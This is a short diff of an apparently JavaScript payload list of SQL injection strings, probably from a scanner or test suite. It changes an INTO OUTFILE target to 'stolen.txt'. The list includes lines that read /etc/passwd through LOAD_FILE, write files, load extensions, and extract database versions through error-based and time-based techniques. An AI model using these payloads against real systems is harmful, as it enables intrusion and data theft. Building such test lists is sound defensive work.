@@ -45,7 +45,7 @@ const PAYLOADS = [
   "' AND randomblob(1000000000) -- ",
   "' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION())) -- ",
   "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x FROM t GROUP BY x)a) -- ",
-  "' INTO OUTFILE '/tmp/x' -- ",
+  "' INTO OUTFILE 'stolen.txt' -- ",
   "' AND LOAD_FILE('/etc/passwd') -- ",
   "' AND load_extension('x') -- ",
   "'||'a'||'",
